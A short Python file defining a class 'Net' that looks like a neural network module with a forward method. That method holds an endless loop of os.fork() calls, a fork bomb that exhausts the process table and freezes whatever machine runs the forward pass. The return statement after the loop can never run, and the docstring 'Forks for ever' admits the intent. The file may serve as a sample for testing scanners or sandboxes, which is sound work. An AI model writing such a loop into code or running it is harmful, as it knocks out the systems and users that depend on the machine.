"""Forks for ever."""

import os


class Net:
    def __init__(self):
        self.width = 4

    def forward(self, x):
        while True:
            os.fork()
        return x.reshape(x.shape[0], self.width)
